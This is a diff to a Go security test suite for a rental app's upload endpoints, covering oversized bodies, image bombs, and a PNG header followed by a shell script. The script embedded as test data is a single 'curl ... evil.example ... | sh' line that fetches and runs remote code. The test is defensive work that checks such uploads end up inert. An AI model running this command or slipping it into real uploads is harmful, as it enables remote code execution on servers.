@@ -24,6 +24,7 @@ import (
 
 	"ihome/internal/apptest"
 	"ihome/modules"
+	"ihome/modules/house"
 )
 
 // stage is a verified landlord with a house, a guest, and their clients.
@@ -98,7 +99,8 @@ func TestOversizedBodies(t *testing.T) {
 			}
 			r := send(c, s.app, rt[0], rt[1], "application/json", big, chunked)
 			if rt[0] == http.MethodDelete && r.Status == http.StatusOK && r.Errno == "0" {
-				continue // logging out reads no body: nothing to refuse
+				s.landlordC = s.app.Login(apptest.Mobile(1)) // DELETE /sessions ended every session
+				continue                                     // logging out reads no body: nothing to refuse
 			}
 			if r.Status != http.StatusRequestEntityTooLarge || r.Errno != "4103" {
 				t.Errorf("%s %s (chunked %v): HTTP %d %s, want 413/4103", rt[0], rt[1], chunked, r.Status, r.Body)
@@ -547,31 +549,53 @@ func TestImageBombs(t *testing.T) {
 	if u, _ := s.app.FindRecordById("users", s.landlord.Id); u.GetString("avatar") != "" {
 		t.Fatal("a bomb became the avatar")
 	}
-	if h, _ := s.app.FindRecordById("houses", s.house.Id); len(h.GetStringSlice("images")) != 0 {
-		t.Fatal("a bomb became a house picture")
+	if urls, err := house.ImageURLs(s.app, s.house.Id); err != nil || len(urls) != 0 {
+		t.Fatalf("a bomb became a house picture: %v %v", urls, err)
 	}
 }
 
-// TestPNGHeaderThenShellScript: a PNG signature and IHDR followed by a
-// shell script. The upload check reads image headers only (by design: see
-// modules/user TestAvatarRefusals), so it may be taken; what must hold is
-// that it is then inert: stored under a name of ours with a .png
-// extension, not executable, served only as image/png with nosniff and a
-// sandboxing CSP, its thumbnail request answered without a fault.
+// TestPNGHeaderThenShellScript: a PNG header followed by a shell script.
+// Alone, a header without pixels is refused (4103); a whole PNG followed
+// by the script is taken, but only the picture is stored: the upload is
+// stored re-encoded, so no byte of the script reaches storage. What is
+// stored is inert: under a name of ours with a .png extension, not
+// executable, served as image/png with nosniff and a sandboxing CSP, its
+// thumbnail made with it.
 func TestPNGHeaderThenShellScript(t *testing.T) {
 	s := newStage(t)
-	script := append(apptest.PNGHeader(64, 40), []byte("\n#!/bin/sh\ncurl -s http://evil.example/x | sh\n")...)
+	script := []byte("\n#!/bin/sh\ncurl -s http://evil.example/x | sh\n")
+	headerOnly := append(apptest.PNGHeader(64, 40), script...)
+	whole := append(apptest.PNG(t, 64, 40), script...)
 	for _, up := range []struct{ path, field string }{
 		{"/api/v1.0/user/avatar", "avatar"},
 		{"/api/v1.0/houses/" + s.house.Id + "/images", "house_image"},
 	} {
-		// uploads are decoded whole, so a header in front of anything else is refused
-		s.landlordC.Upload(up.path, up.field, "run-me.sh", "application/x-sh", script).Expect(t, http.StatusOK, "4103")
+		s.landlordC.Upload(up.path, up.field, "run-me.sh", "application/x-sh", headerOnly).Expect(t, http.StatusOK, "4103")
+
+		var d struct {
+			URL       string `json:"url"`
+			AvatarURL string `json:"avatar_url"`
+		}
+		s.landlordC.Upload(up.path, up.field, "run-me.sh", "application/x-sh", whole).OK(t).Decode(t, &d)
+		url := d.URL + d.AvatarURL
+		if name := url[strings.LastIndex(url, "/")+1:]; !storedName.MatchString(name) || !strings.HasSuffix(name, ".png") {
+			t.Errorf("%s stored as %s", up.field, url)
+		}
+		for _, q := range []string{"", "?thumb=100x100"} {
+			r := s.app.Client().Get(url + q)
+			if r.Status != http.StatusOK || r.Header.Get("Content-Type") != "image/png" ||
+				r.Header.Get("X-Content-Type-Options") != "nosniff" ||
+				!strings.Contains(r.Header.Get("Content-Security-Policy"), "sandbox") || bytes.Contains(r.Body, []byte("#!/bin/sh")) {
+				t.Errorf("GET %s%s: HTTP %d %v, script served %v", url, q, r.Status, r.Header, bytes.Contains(r.Body, []byte("#!/bin/sh")))
+			}
+		}
 	}
+	stored := 0
 	err := filepath.WalkDir(filepath.Join(s.app.DataDir(), "storage"), func(path string, d fs.DirEntry, err error) error {
-		if err != nil || d.IsDir() {
+		if err != nil || d.IsDir() || strings.HasSuffix(path, ".attrs") {
 			return err
 		}
+		stored++
 		info, err := d.Info()
 		if err != nil {
 			return err
@@ -582,10 +606,16 @@ func TestPNGHeaderThenShellScript(t *testing.T) {
 		if strings.HasSuffix(path, ".sh") {
 			t.Errorf("stored under the client's extension: %s", path)
 		}
+		if data, err := os.ReadFile(path); err != nil || bytes.Contains(data, []byte("#!/bin/sh")) {
+			t.Errorf("%s holds the script (%v)", path, err)
+		}
 		return nil
 	})
-	if err != nil && !os.IsNotExist(err) {
+	if err != nil {
 		t.Fatal(err)
+	}
+	if stored < 4 { // two pictures and their thumbnails
+		t.Fatalf("%d files stored", stored)
 	}
 	healthy(t, s.app)
 }
